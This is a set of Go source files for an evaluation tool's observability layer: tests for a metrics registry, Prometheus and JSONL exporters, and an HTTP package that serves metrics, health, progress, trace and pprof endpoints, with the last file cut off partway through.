			if e.Args["sim_us"].(float64) != 1000 {
				t.Errorf("window sim_us = %v, want 1000", e.Args["sim_us"])
			}
			if e.Args["arg"].(float64) != 37 {
				t.Errorf("window arg = %v, want 37", e.Args["arg"])
			}
		}
	}
	if !found {
		t.Fatal("no window complete event in trace")
	}
}

func TestRegistryEnableFlightIdempotent(t *testing.T) {
	reg := NewRegistry()
	if reg.Flight() != nil {
		t.Fatal("flight enabled by default")
	}
	f1 := reg.EnableFlight(16)
	f2 := reg.EnableFlight(999)
	if f1 == nil || f1 != f2 || reg.Flight() != f1 {
		t.Fatal("EnableFlight not idempotent")
	}
	f1.Record(FlightMark, -1, -1, 0, "x")
	if reg.Flight().Len() != 1 {
		t.Fatal("recorder not shared")
	}
}
