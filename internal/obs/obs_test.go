package obs

import (
	"bytes"
	"context"
	"strings"
	"testing"
	"time"

	"repro/internal/par"
)

func TestNilInstrumentsAreNoOps(t *testing.T) {
	var reg *Registry
	c := reg.Counter("x")
	g := reg.Gauge("y")
	h := reg.Histogram("z", ClockSim)
	c.Inc()
	c.Add(5)
	g.Set(3)
	g.Update(-1)
	h.Observe(7)
	h.ObserveDuration(time.Second)
	if c.Value() != 0 || g.Value() != 0 || h.Count() != 0 {
		t.Fatal("nil instruments recorded something")
	}
	sp := reg.StartSpan("stage")
	if d := sp.End(); d < 0 {
		t.Fatalf("nil span measured negative time %v", d)
	}
	if reg.Snapshot() != nil {
		t.Fatal("nil registry produced a snapshot")
	}
	if _, ok := reg.SpanDur("stage"); ok {
		t.Fatal("nil registry recorded a span")
	}
}

func TestRegistryIdempotentRegistration(t *testing.T) {
	reg := NewRegistry()
	if reg.Counter("a") != reg.Counter("a") {
		t.Fatal("same counter name gave different instruments")
	}
	if reg.Gauge("b") != reg.Gauge("b") {
		t.Fatal("same gauge name gave different instruments")
	}
	if reg.Histogram("c", ClockWall) != reg.Histogram("c", ClockWall) {
		t.Fatal("same histogram name gave different instruments")
	}
}

func TestGaugeHighWaterMark(t *testing.T) {
	reg := NewRegistry()
	g := reg.Gauge("depth")
	g.Update(3)
	g.Update(4)
	g.Update(-5)
	if got := g.Value(); got != 2 {
		t.Fatalf("gauge value = %d, want 2", got)
	}
	if got := g.High(); got != 7 {
		t.Fatalf("gauge high = %d, want 7", got)
	}
}

// TestHistogramQuantilesKnownDistribution pins the percentile estimator
// on a distribution whose exact quantiles are known: the integers
// 1..1000, observed once each, with bucket bounds every 10 units. All
// interpolated percentiles must land within one bucket width of truth.
func TestHistogramQuantilesKnownDistribution(t *testing.T) {
	bounds := make([]int64, 100)
	for i := range bounds {
		bounds[i] = int64((i + 1) * 10)
	}
	h := NewHistogram("known", ClockNone, bounds)
	for v := int64(1); v <= 1000; v++ {
		h.Observe(v)
	}
	s := h.Snap()
	if s.Count != 1000 || s.Min != 1 || s.Max != 1000 {
		t.Fatalf("snap count=%d min=%d max=%d", s.Count, s.Min, s.Max)
	}
	for _, tc := range []struct {
		q    float64
		want int64
	}{{0.5, 500}, {0.95, 950}, {0.99, 990}, {0.10, 100}} {
		got := s.Quantile(tc.q)
		if got < tc.want-10 || got > tc.want+10 {
			t.Errorf("q%.2f = %d, want %d ± 10", tc.q, got, tc.want)
		}
	}
	if got := s.Quantile(0); got != 1 {
		t.Errorf("q0 = %d, want min 1", got)
	}
	if got := s.Quantile(1); got != 1000 {
		t.Errorf("q1 = %d, want max 1000", got)
	}
	if mean := s.Mean(); mean < 499 || mean > 502 {
		t.Errorf("mean = %f, want ~500.5", mean)
	}
}

func TestHistogramDefaultLadderSortedAndCovers(t *testing.T) {
	b := defaultDurationBounds
	for i := 1; i < len(b); i++ {
		if b[i] <= b[i-1] {
			t.Fatalf("ladder not strictly ascending at %d: %d <= %d", i, b[i], b[i-1])
		}
	}
	h := NewHistogram("d", ClockSim, nil)
	h.ObserveDuration(50 * time.Nanosecond) // below first bound
	h.ObserveDuration(3 * time.Millisecond) // interior
	h.ObserveDuration(10 * time.Minute)     // overflow bucket
	s := h.Snap()
	if s.Count != 3 {
		t.Fatalf("count = %d", s.Count)
	}
	if s.Max != int64(10*time.Minute) {
		t.Fatalf("max = %d", s.Max)
	}
	// Overflow observation must still be clamped to the observed max.
	if got := s.Quantile(1); got != int64(10*time.Minute) {
		t.Fatalf("q1 = %d", got)
	}
	// searchBounds agrees with the hot-path binary search placement.
	for _, v := range []int64{1, 100, 101, int64(time.Second), 1 << 62} {
		want := searchBounds(b, v)
		h2 := NewHistogram("probe", ClockNone, b)
		h2.Observe(v)
		idx := -1
		for i := range h2.counts {
			if h2.counts[i].Load() == 1 {
				idx = i
				break
			}
		}
		if idx != want {
			t.Fatalf("value %d landed in bucket %d, want %d", v, idx, want)
		}
	}
}

func TestSpanRecordingAndTimeline(t *testing.T) {
	reg := NewRegistry()
	sp := reg.StartSpan("stage.a")
	time.Sleep(time.Millisecond)
	da := sp.End()
	sp = reg.StartSpan("stage.b")
	db := sp.End()
	reg.RecordSimSpan("stage.sim", 2*time.Second, 5*time.Second)

	spans := reg.Spans()
	if len(spans) != 3 {
		t.Fatalf("got %d spans", len(spans))
	}
	if spans[0].Name != "stage.a" || spans[0].Dur != da || spans[0].Clock != ClockWall {
		t.Fatalf("span[0] = %+v", spans[0])
	}
	if spans[1].Start < spans[0].Start {
		t.Fatal("wall spans not rebased onto a shared epoch")
	}
	if spans[2].Clock != ClockSim || spans[2].Start != 2*time.Second || spans[2].Dur != 5*time.Second {
		t.Fatalf("sim span = %+v", spans[2])
	}
	if d, ok := reg.SpanDur("stage.b"); !ok || d != db {
		t.Fatalf("SpanDur(stage.b) = %v, %v", d, ok)
	}
}

func TestSnapshotDeterministicOrderAndExports(t *testing.T) {
	build := func() *Snapshot {
		reg := NewRegistry()
		// Register in shuffled order; snapshot must sort.
		reg.Counter("z.count").Add(2)
		reg.Counter("a.count").Inc()
		reg.Gauge("m.depth").Set(4)
		reg.Histogram("b.lat_ns", ClockSim).ObserveDuration(3 * time.Millisecond)
		return reg.Snapshot()
	}
	s := build()
	if s.Counters[0].Name != "a.count" || s.Counters[1].Name != "z.count" {
		t.Fatalf("counters not sorted: %+v", s.Counters)
	}
	if v, ok := s.Counter("z.count"); !ok || v != 2 {
		t.Fatalf("Counter(z.count) = %d, %v", v, ok)
	}
	if g, ok := s.Gauge("m.depth"); !ok || g.Value != 4 {
		t.Fatalf("Gauge(m.depth) = %+v, %v", g, ok)
	}
	if h := s.Hist("b.lat_ns"); h == nil || h.Count != 1 {
		t.Fatalf("Hist(b.lat_ns) = %+v", s.Hist("b.lat_ns"))
	}

	var prom1, prom2 bytes.Buffer
	if err := s.WritePrometheus(&prom1); err != nil {
		t.Fatal(err)
	}
	if err := build().WritePrometheus(&prom2); err != nil {
		t.Fatal(err)
	}
	if prom1.String() != prom2.String() {
		t.Fatal("prometheus export not deterministic across identical registries")
	}
	for _, want := range []string{
		"# HELP a_count a.count (counter)", "# TYPE a_count counter", "a_count 1",
		"# TYPE m_depth gauge", "m_depth 4",
		"# TYPE m_depth_high gauge", "m_depth_high 4",
		"# HELP b_lat_ns b.lat_ns (histogram, clock=sim)", "# TYPE b_lat_ns histogram",
		`b_lat_ns_bucket{le="+Inf"} 1`,
		"# TYPE b_lat_ns_q gauge", `b_lat_ns_q{quantile="0.95"}`,
	} {
		if !strings.Contains(prom1.String(), want) {
			t.Errorf("prometheus export missing %q:\n%s", want, prom1.String())
		}
	}

	var jl bytes.Buffer
	if err := s.WriteJSONL(&jl); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(jl.String()), "\n")
	if len(lines) != 4 {
		t.Fatalf("jsonl lines = %d, want 4:\n%s", len(lines), jl.String())
	}
	for _, l := range lines {
		if !strings.HasPrefix(l, `{"kind":`) {
			t.Fatalf("jsonl line not an event object: %s", l)
		}
	}
}

func TestSnapshotPrefixedAndMerge(t *testing.T) {
	reg := NewRegistry()
	reg.Counter("drops").Add(3)
	reg.Histogram("lat_ns", ClockSim).Observe(100)
	a := reg.Snapshot().Prefixed("accuracy.")
	if _, ok := a.Counter("accuracy.drops"); !ok {
		t.Fatalf("prefix missing: %+v", a.Counters)
	}
	// Prefixing must not mutate the source histogram snapshot.
	if reg.Snapshot().Hist("lat_ns") == nil {
		t.Fatal("source snapshot name mutated by Prefixed")
	}
	b := reg.Snapshot().Prefixed("latency.")
	a.Merge(b)
	if _, ok := a.Counter("latency.drops"); !ok {
		t.Fatal("merge lost prefixed counter")
	}
	if a.Hist("accuracy.lat_ns") == nil || a.Hist("latency.lat_ns") == nil {
		t.Fatal("merge lost histograms")
	}
}

// TestConcurrentRegistryUse hammers one registry's instruments from the
// same bounded worker pool the evaluation pipeline uses; run under
// -race this pins the concurrency contract of the hot path and of
// snapshotting during writes.
func TestConcurrentRegistryUse(t *testing.T) {
	reg := NewRegistry()
	c := reg.Counter("shared.count")
	g := reg.Gauge("shared.depth")
	h := reg.Histogram("shared.lat_ns", ClockWall)
	const workers, perWorker = 8, 5000
	err := par.ForEach(context.Background(), workers, workers, func(_ context.Context, i int) error {
		// Concurrent registration of the same and distinct names.
		reg.Counter("shared.count").Inc()
		own := reg.Histogram("worker.lat_ns", ClockWall)
		for j := 0; j < perWorker; j++ {
			c.Inc()
			g.Update(1)
			g.Update(-1)
			h.Observe(int64(j))
			own.Observe(int64(j))
			if j%1000 == 0 {
				_ = reg.Snapshot() // snapshot racing writers must be safe
			}
		}
		reg.StartSpan("worker.stage").End()
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if got := c.Value(); got != workers*perWorker+workers {
		t.Fatalf("counter = %d, want %d", got, workers*perWorker+workers)
	}
	if got := h.Count(); got != workers*perWorker {
		t.Fatalf("histogram count = %d, want %d", got, workers*perWorker)
	}
	if got := len(reg.Spans()); got != workers {
		t.Fatalf("spans = %d, want %d", got, workers)
	}
}

// TestDisabledPathAllocFree is the acceptance gate backing the
// benchmark: the nil-instrument path must not allocate, and neither
// must the enabled hot path.
func TestDisabledPathAllocFree(t *testing.T) {
	var reg *Registry
	c := reg.Counter("x")
	h := reg.Histogram("y", ClockSim)
	if n := testing.AllocsPerRun(1000, func() { c.Inc(); h.Observe(42) }); n != 0 {
		t.Fatalf("disabled path allocates %.1f per op", n)
	}
	on := NewRegistry()
	ce := on.Counter("x")
	he := on.Histogram("y", ClockSim)
	ge := on.Gauge("z")
	if n := testing.AllocsPerRun(1000, func() { ce.Inc(); he.Observe(42); ge.Update(1) }); n != 0 {
		t.Fatalf("enabled path allocates %.1f per op", n)
	}
}
