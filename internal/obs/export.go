package obs

import (
	"encoding/json"
	"fmt"
	"io"
	"strings"

	"repro/internal/fsio"
)

// CounterSnap is one counter's exported state.
type CounterSnap struct {
	Name  string `json:"name"`
	Value uint64 `json:"value"`
}

// GaugeSnap is one gauge's exported state.
type GaugeSnap struct {
	Name  string `json:"name"`
	Value int64  `json:"value"`
	High  int64  `json:"high"`
}

// Snapshot is an immutable, name-sorted capture of a registry: the
// structured form that exporters serialize and that internal/eval and
// internal/report consume when deriving scorecard quantities.
type Snapshot struct {
	Counters []CounterSnap `json:"counters,omitempty"`
	Gauges   []GaugeSnap   `json:"gauges,omitempty"`
	Hists    []*HistSnap   `json:"histograms,omitempty"`
	Spans    []SpanRecord  `json:"spans,omitempty"`
}

// Snapshot captures the registry's current state. Instruments are
// sorted by name so exports are deterministic regardless of wiring
// order; spans keep record order (they are a timeline). A nil registry
// snapshots to nil.
func (r *Registry) Snapshot() *Snapshot {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	counters := make([]*Counter, 0, len(r.counters))
	for _, name := range sortedKeys(r.counters) {
		counters = append(counters, r.counters[name])
	}
	gauges := make([]*Gauge, 0, len(r.gauges))
	for _, name := range sortedKeys(r.gauges) {
		gauges = append(gauges, r.gauges[name])
	}
	hists := make([]*Histogram, 0, len(r.hists))
	for _, name := range sortedKeys(r.hists) {
		hists = append(hists, r.hists[name])
	}
	spans := make([]SpanRecord, len(r.spans))
	copy(spans, r.spans)
	r.mu.Unlock()

	s := &Snapshot{Spans: spans}
	for _, c := range counters {
		s.Counters = append(s.Counters, CounterSnap{Name: c.name, Value: c.Value()})
	}
	for _, g := range gauges {
		s.Gauges = append(s.Gauges, GaugeSnap{Name: g.name, Value: g.Value(), High: g.High()})
	}
	for _, h := range hists {
		s.Hists = append(s.Hists, h.Snap())
	}
	return s
}

// FSIOSnapshot exports the storage layer's package-level health
// counters as a mergeable snapshot. fsio sits below obs in the import
// graph, so it keeps raw atomics and this bridge renders them:
// fsio.dirsync_errors (tolerated-but-counted directory fsync
// failures), fsio.append_repairs (truncate-repairs after a failed
// append), and fsio.faults_injected (nonzero only under faultfs —
// a canary that a hostile-disk config leaked into production use).
func FSIOSnapshot() *Snapshot {
	st := fsio.ReadStats()
	return &Snapshot{Counters: []CounterSnap{
		{Name: "fsio.append_repairs", Value: st.AppendRepairs},
		{Name: "fsio.dirsync_errors", Value: st.DirSyncErrors},
		{Name: "fsio.faults_injected", Value: st.FaultsInjected},
	}}
}

// Counter returns the named counter's value and whether it exists.
func (s *Snapshot) Counter(name string) (uint64, bool) {
	if s == nil {
		return 0, false
	}
	for _, c := range s.Counters {
		if c.Name == name {
			return c.Value, true
		}
	}
	return 0, false
}

// Gauge returns the named gauge's state and whether it exists.
func (s *Snapshot) Gauge(name string) (GaugeSnap, bool) {
	if s == nil {
		return GaugeSnap{}, false
	}
	for _, g := range s.Gauges {
		if g.Name == name {
			return g, true
		}
	}
	return GaugeSnap{}, false
}

// Hist returns the named histogram summary, or nil.
func (s *Snapshot) Hist(name string) *HistSnap {
	if s == nil {
		return nil
	}
	for _, h := range s.Hists {
		if h.Name == name {
			return h
		}
	}
	return nil
}

// Prefixed returns a copy of the snapshot with every instrument and
// span name prefixed (for merging per-experiment registries into one
// dump without collisions).
func (s *Snapshot) Prefixed(prefix string) *Snapshot {
	if s == nil {
		return nil
	}
	out := &Snapshot{}
	for _, c := range s.Counters {
		c.Name = prefix + c.Name
		out.Counters = append(out.Counters, c)
	}
	for _, g := range s.Gauges {
		g.Name = prefix + g.Name
		out.Gauges = append(out.Gauges, g)
	}
	for _, h := range s.Hists {
		hc := *h
		hc.Name = prefix + hc.Name
		out.Hists = append(out.Hists, &hc)
	}
	for _, sp := range s.Spans {
		sp.Name = prefix + sp.Name
		out.Spans = append(out.Spans, sp)
	}
	return out
}

// Merge appends other's instruments and spans to s (names are assumed
// disjoint — use Prefixed when merging same-shaped registries).
func (s *Snapshot) Merge(other *Snapshot) {
	if s == nil || other == nil {
		return
	}
	s.Counters = append(s.Counters, other.Counters...)
	s.Gauges = append(s.Gauges, other.Gauges...)
	s.Hists = append(s.Hists, other.Hists...)
	s.Spans = append(s.Spans, other.Spans...)
}

// promName sanitizes a dotted metric path into a Prometheus-legal
// metric name.
func promName(name string) string {
	var b strings.Builder
	b.Grow(len(name))
	for i := 0; i < len(name); i++ {
		c := name[i]
		switch {
		case c >= 'a' && c <= 'z', c >= 'A' && c <= 'Z', c == '_':
			b.WriteByte(c)
		case c >= '0' && c <= '9':
			if i == 0 {
				b.WriteByte('_')
			}
			b.WriteByte(c)
		default:
			b.WriteByte('_')
		}
	}
	return b.String()
}

// promEscapeHelp escapes a HELP docstring per the exposition format:
// backslash and newline only.
func promEscapeHelp(s string) string {
	s = strings.ReplaceAll(s, `\`, `\\`)
	return strings.ReplaceAll(s, "\n", `\n`)
}

// promEscapeLabel escapes a label value per the exposition format:
// backslash, double quote, and newline.
func promEscapeLabel(s string) string {
	s = strings.ReplaceAll(s, `\`, `\\`)
	s = strings.ReplaceAll(s, `"`, `\"`)
	return strings.ReplaceAll(s, "\n", `\n`)
}

// promHeader writes one family's `# HELP` then `# TYPE` lines, in that
// order as the exposition format requires.
func promHeader(w io.Writer, name, help, typ string) error {
	_, err := fmt.Fprintf(w, "# HELP %s %s\n# TYPE %s %s\n", name, promEscapeHelp(help), name, typ)
	return err
}

// WritePrometheus renders the snapshot in Prometheus text exposition
// format, conforming to the format rules: every family leads with
// `# HELP` then `# TYPE`, all of a family's samples are contiguous, no
// two samples share a labelset, and histograms emit a cumulative
// `_bucket` ladder whose `+Inf` bucket equals `_count`, plus `_sum`.
//
// The registry's dotted names and clock taxonomy don't fit Prometheus
// names, so they ride in the HELP docstring. Gauge high-water marks
// become a separate `<name>_high` gauge family; estimated histogram
// percentiles become a `<name>_q` gauge family with a `quantile`
// label (they are interpolations, not exact summaries, so they must
// not pose as the histogram itself); spans become a `<name>_span_ns`
// gauge family with one sample per record, disambiguated by a `seq`
// label.
func (s *Snapshot) WritePrometheus(w io.Writer) error {
	if s == nil {
		return nil
	}
	for _, c := range s.Counters {
		n := promName(c.Name)
		if err := promHeader(w, n, c.Name+" (counter)", "counter"); err != nil {
			return err
		}
		if _, err := fmt.Fprintf(w, "%s %d\n", n, c.Value); err != nil {
			return err
		}
	}
	for _, g := range s.Gauges {
		n := promName(g.Name)
		if err := promHeader(w, n, g.Name+" (gauge)", "gauge"); err != nil {
			return err
		}
		if _, err := fmt.Fprintf(w, "%s %d\n", n, g.Value); err != nil {
			return err
		}
	}
	for _, g := range s.Gauges {
		n := promName(g.Name) + "_high"
		if err := promHeader(w, n, g.Name+" high-water mark (gauge)", "gauge"); err != nil {
			return err
		}
		if _, err := fmt.Fprintf(w, "%s %d\n", n, g.High); err != nil {
			return err
		}
	}
	for _, h := range s.Hists {
		n := promName(h.Name)
		if err := promHeader(w, n, fmt.Sprintf("%s (histogram, clock=%s)", h.Name, h.Clock), "histogram"); err != nil {
			return err
		}
		cum := uint64(0)
		for _, b := range h.Buckets {
			cum += b.Count
			if _, err := fmt.Fprintf(w, "%s_bucket{le=\"%d\"} %d\n", n, b.Upper, cum); err != nil {
				return err
			}
		}
		if _, err := fmt.Fprintf(w, "%s_bucket{le=\"+Inf\"} %d\n%s_sum %d\n%s_count %d\n",
			n, h.Count, n, h.Sum, n, h.Count); err != nil {
			return err
		}
	}
	for _, h := range s.Hists {
		n := promName(h.Name) + "_q"
		if err := promHeader(w, n, fmt.Sprintf("%s estimated percentiles (gauge, clock=%s)", h.Name, h.Clock), "gauge"); err != nil {
			return err
		}
		for _, q := range []float64{0.5, 0.95, 0.99} {
			if _, err := fmt.Fprintf(w, "%s{quantile=\"%g\"} %d\n", n, q, h.Quantile(q)); err != nil {
				return err
			}
		}
	}
	// Spans grouped per family so a family's samples stay contiguous;
	// the seq label (record order within the family) keeps labelsets
	// unique when a stage ran more than once.
	spanFamilies := make(map[string]bool, len(s.Spans))
	var spanOrder []string
	for _, sp := range s.Spans {
		n := promName(sp.Name) + "_span_ns"
		if !spanFamilies[n] {
			spanFamilies[n] = true
			spanOrder = append(spanOrder, n)
		}
	}
	for _, fam := range spanOrder {
		seq := 0
		wroteHeader := false
		for _, sp := range s.Spans {
			if promName(sp.Name)+"_span_ns" != fam {
				continue
			}
			if !wroteHeader {
				if err := promHeader(w, fam, sp.Name+" span durations (gauge)", "gauge"); err != nil {
					return err
				}
				wroteHeader = true
			}
			if _, err := fmt.Fprintf(w, "%s{clock=\"%s\",seq=\"%d\"} %d\n",
				fam, promEscapeLabel(sp.Clock.String()), seq, sp.Dur.Nanoseconds()); err != nil {
				return err
			}
			seq++
		}
	}
	return nil
}

// jsonlEvent is one line of the JSONL export.
type jsonlEvent struct {
	Kind    string       `json:"kind"`
	Counter *CounterSnap `json:"counter,omitempty"`
	Gauge   *GaugeSnap   `json:"gauge,omitempty"`
	Hist    *HistSnap    `json:"histogram,omitempty"`
	Span    *SpanRecord  `json:"span,omitempty"`
	Clock   string       `json:"clock,omitempty"`
}

// WriteJSONL renders the snapshot as one JSON object per line — an
// event/snapshot log that downstream tooling can ingest incrementally.
func (s *Snapshot) WriteJSONL(w io.Writer) error {
	if s == nil {
		return nil
	}
	enc := json.NewEncoder(w)
	for i := range s.Counters {
		if err := enc.Encode(jsonlEvent{Kind: "counter", Counter: &s.Counters[i]}); err != nil {
			return err
		}
	}
	for i := range s.Gauges {
		if err := enc.Encode(jsonlEvent{Kind: "gauge", Gauge: &s.Gauges[i]}); err != nil {
			return err
		}
	}
	for _, h := range s.Hists {
		if err := enc.Encode(jsonlEvent{Kind: "histogram", Hist: h, Clock: h.Clock.String()}); err != nil {
			return err
		}
	}
	for i := range s.Spans {
		if err := enc.Encode(jsonlEvent{Kind: "span", Span: &s.Spans[i], Clock: s.Spans[i].Clock.String()}); err != nil {
			return err
		}
	}
	return nil
}

// WriteJSONLFile writes the JSONL export to path atomically: readers
// never observe a torn snapshot, and a crash mid-export leaves any
// previous file intact.
func (s *Snapshot) WriteJSONLFile(path string) error {
	return fsio.WriteAtomic(path, s.WriteJSONL)
}

// WritePrometheusFile writes the Prometheus text export to path
// atomically, with the same crash guarantees as WriteJSONLFile.
func (s *Snapshot) WritePrometheusFile(path string) error {
	return fsio.WriteAtomic(path, s.WritePrometheus)
}
