// Package httpexport serves the live observability plane over HTTP: a
// read-only window into a running evaluation. It exposes
//
//	/metrics        Prometheus text rendered from a registry snapshot
//	/healthz        health probe: "ok", "degraded", or "draining"
//	/progress       JSON progress (campaign counts, running experiment
//	                IDs, sim-vs-wall rates — whatever the host wires)
//	/trace          Chrome trace_event JSON of the flight recorder
//	/debug/pprof/*  the standard runtime profiles
//
// The server is strictly an observer. It reads registry snapshots and
// a host-supplied progress closure; it never writes into the
// simulation, so a run behaves byte-identically with the listener on
// or off (the determinism guard tests pin this). Snapshots are cached
// for a short TTL so an aggressive scraper cannot turn /metrics into a
// measurable load on the run it is watching.
//
// Start binds the listener synchronously (so `-listen 127.0.0.1:0`
// reports the kernel-chosen port immediately) and serves in the
// background; Shutdown drains gracefully and is wired to the
// signal-aware contexts from internal/cli by the flag helper. Hosts
// that already run an HTTP server (idsevald's ingest plane) mount a
// NewHandler on their own mux instead.
package httpexport

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/pprof"
	"sync"
	"time"

	"repro/internal/obs"
)

// Health states reported by /healthz. Anything else a Health closure
// returns is passed through verbatim with a 200, but the probe's
// status-code contract — 503 exactly when draining — only holds for
// these three.
const (
	// HealthOK: accepting work, no pressure.
	HealthOK = "ok"
	// HealthDegraded: still accepting, but shedding or saturated —
	// queues full, recent load shed, or at the admission ceiling.
	// Serves 200 so orchestrators don't kill a daemon for being busy.
	HealthDegraded = "degraded"
	// HealthDraining: shutting down, rejecting new work. Serves 503 so
	// load balancers stop routing to it.
	HealthDraining = "draining"
)

// Config wires a Server (or Handler) to its host process. Snapshot is
// required; everything else is optional.
type Config struct {
	// Addr is the listen address ("127.0.0.1:9090"; ":0" picks a port).
	// Ignored by NewHandler.
	Addr string
	// Snapshot captures the current telemetry state. Called at most once
	// per SnapshotTTL regardless of scrape rate.
	Snapshot func() *obs.Snapshot
	// Progress returns the object rendered as /progress JSON. Nil means
	// /progress serves 404.
	Progress func() any
	// Flight returns the flight recorder rendered at /trace. Nil (or a
	// func returning nil) means /trace serves an empty valid trace.
	Flight func() *obs.FlightRecorder
	// Health reports the current service state for /healthz: HealthOK,
	// HealthDegraded, or HealthDraining. Nil means always ok.
	Health func() string
	// SnapshotTTL bounds how often Snapshot runs; <= 0 defaults to 1s.
	SnapshotTTL time.Duration
	// Log receives one "listening on ..." line; nil discards it.
	Log io.Writer
}

// Handler is the observability plane as a mountable http.Handler, for
// hosts that run their own server alongside it.
type Handler struct {
	cfg Config
	mux *http.ServeMux

	mu       sync.Mutex
	lastSnap *obs.Snapshot
	lastAt   time.Time
}

// NewHandler builds the observability handler from cfg (Addr and Log
// are ignored here — they belong to Start).
func NewHandler(cfg Config) (*Handler, error) {
	if cfg.Snapshot == nil {
		return nil, errors.New("httpexport: Config.Snapshot is required")
	}
	if cfg.SnapshotTTL <= 0 {
		cfg.SnapshotTTL = time.Second
	}
	h := &Handler{cfg: cfg, mux: http.NewServeMux()}
	h.mux.HandleFunc("/healthz", h.handleHealthz)
	h.mux.HandleFunc("/metrics", h.handleMetrics)
	h.mux.HandleFunc("/progress", h.handleProgress)
	h.mux.HandleFunc("/trace", h.handleTrace)
	h.mux.HandleFunc("/debug/pprof/", pprof.Index)
	h.mux.HandleFunc("/debug/pprof/cmdline", pprof.Cmdline)
	h.mux.HandleFunc("/debug/pprof/profile", pprof.Profile)
	h.mux.HandleFunc("/debug/pprof/symbol", pprof.Symbol)
	h.mux.HandleFunc("/debug/pprof/trace", pprof.Trace)
	return h, nil
}

// ServeHTTP implements http.Handler.
func (h *Handler) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	h.mux.ServeHTTP(w, r)
}

// Server is a running observability endpoint.
type Server struct {
	h   *Handler
	ln  net.Listener
	srv *http.Server

	done chan struct{}
	err  error
	mu   sync.Mutex
}

// Start binds cfg.Addr and begins serving. The listener is bound
// before Start returns, so Addr() is immediately valid.
func Start(cfg Config) (*Server, error) {
	h, err := NewHandler(cfg)
	if err != nil {
		return nil, err
	}
	ln, err := net.Listen("tcp", cfg.Addr)
	if err != nil {
		return nil, fmt.Errorf("httpexport: listen %s: %w", cfg.Addr, err)
	}
	s := &Server{h: h, ln: ln, done: make(chan struct{})}
	s.srv = &http.Server{
		Handler:           h,
		ReadHeaderTimeout: 5 * time.Second,
	}
	go func() {
		defer close(s.done)
		if err := s.srv.Serve(ln); err != nil && !errors.Is(err, http.ErrServerClosed) {
			s.mu.Lock()
			s.err = err
			s.mu.Unlock()
		}
	}()
	if cfg.Log != nil {
		fmt.Fprintf(cfg.Log, "observability: listening on http://%s\n", s.Addr())
	}
	return s, nil
}

// Addr returns the bound address (with the real port when Addr was :0).
func (s *Server) Addr() string {
	return s.ln.Addr().String()
}

// Shutdown stops accepting connections and drains in-flight requests
// until ctx expires. Safe to call more than once.
func (s *Server) Shutdown(ctx context.Context) error {
	err := s.srv.Shutdown(ctx)
	<-s.done
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.err != nil {
		return s.err
	}
	return err
}

// snapshot returns the cached snapshot, refreshing it when older than
// the TTL. Scrapers therefore cost the run at most one Snapshot per
// TTL, no matter how hard they poll.
func (h *Handler) snapshot() *obs.Snapshot {
	h.mu.Lock()
	defer h.mu.Unlock()
	if h.lastSnap == nil || time.Since(h.lastAt) >= h.cfg.SnapshotTTL {
		h.lastSnap = h.cfg.Snapshot()
		h.lastAt = time.Now()
	}
	return h.lastSnap
}

func (h *Handler) handleHealthz(w http.ResponseWriter, _ *http.Request) {
	state := HealthOK
	if h.cfg.Health != nil {
		state = h.cfg.Health()
	}
	w.Header().Set("Content-Type", "text/plain; charset=utf-8")
	if state == HealthDraining {
		w.WriteHeader(http.StatusServiceUnavailable)
	}
	io.WriteString(w, state+"\n")
}

func (h *Handler) handleMetrics(w http.ResponseWriter, _ *http.Request) {
	snap := h.snapshot()
	w.Header().Set("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
	if snap == nil {
		return
	}
	if err := snap.WritePrometheus(w); err != nil {
		// Connection-level failure; the response is already partially
		// written, nothing recoverable to do.
		return
	}
}

func (h *Handler) handleProgress(w http.ResponseWriter, r *http.Request) {
	if h.cfg.Progress == nil {
		http.NotFound(w, r)
		return
	}
	w.Header().Set("Content-Type", "application/json")
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	if err := enc.Encode(h.cfg.Progress()); err != nil {
		http.Error(w, err.Error(), http.StatusInternalServerError)
	}
}

func (h *Handler) handleTrace(w http.ResponseWriter, _ *http.Request) {
	var f *obs.FlightRecorder
	if h.cfg.Flight != nil {
		f = h.cfg.Flight()
	}
	w.Header().Set("Content-Type", "application/json")
	_ = f.WriteChromeTrace(w) // nil-safe: emits an empty valid trace
}
