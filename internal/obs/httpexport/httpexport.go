// Package httpexport serves the live observability plane over HTTP: a
// read-only window into a running evaluation. It exposes
//
//	/metrics        Prometheus text rendered from a registry snapshot
//	/healthz        liveness probe ("ok")
//	/progress       JSON progress (campaign counts, running experiment
//	                IDs, sim-vs-wall rates — whatever the host wires)
//	/trace          Chrome trace_event JSON of the flight recorder
//	/debug/pprof/*  the standard runtime profiles
//
// The server is strictly an observer. It reads registry snapshots and
// a host-supplied progress closure; it never writes into the
// simulation, so a run behaves byte-identically with the listener on
// or off (the determinism guard tests pin this). Snapshots are cached
// for a short TTL so an aggressive scraper cannot turn /metrics into a
// measurable load on the run it is watching.
//
// Start binds the listener synchronously (so `-listen 127.0.0.1:0`
// reports the kernel-chosen port immediately) and serves in the
// background; Shutdown drains gracefully and is wired to the
// signal-aware contexts from internal/cli by the flag helper.
package httpexport

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/pprof"
	"sync"
	"time"

	"repro/internal/obs"
)

// Config wires a Server to its host process. Snapshot is required;
// everything else is optional.
type Config struct {
	// Addr is the listen address ("127.0.0.1:9090"; ":0" picks a port).
	Addr string
	// Snapshot captures the current telemetry state. Called at most once
	// per SnapshotTTL regardless of scrape rate.
	Snapshot func() *obs.Snapshot
	// Progress returns the object rendered as /progress JSON. Nil means
	// /progress serves 404.
	Progress func() any
	// Flight returns the flight recorder rendered at /trace. Nil (or a
	// func returning nil) means /trace serves an empty valid trace.
	Flight func() *obs.FlightRecorder
	// SnapshotTTL bounds how often Snapshot runs; <= 0 defaults to 1s.
	SnapshotTTL time.Duration
	// Log receives one "listening on ..." line; nil discards it.
	Log io.Writer
}

// Server is a running observability endpoint.
type Server struct {
	cfg Config
	ln  net.Listener
	srv *http.Server

	mu       sync.Mutex
	lastSnap *obs.Snapshot
	lastAt   time.Time

	done chan struct{}
	err  error
}

// Start binds cfg.Addr and begins serving. The listener is bound
// before Start returns, so Addr() is immediately valid.
func Start(cfg Config) (*Server, error) {
	if cfg.Snapshot == nil {
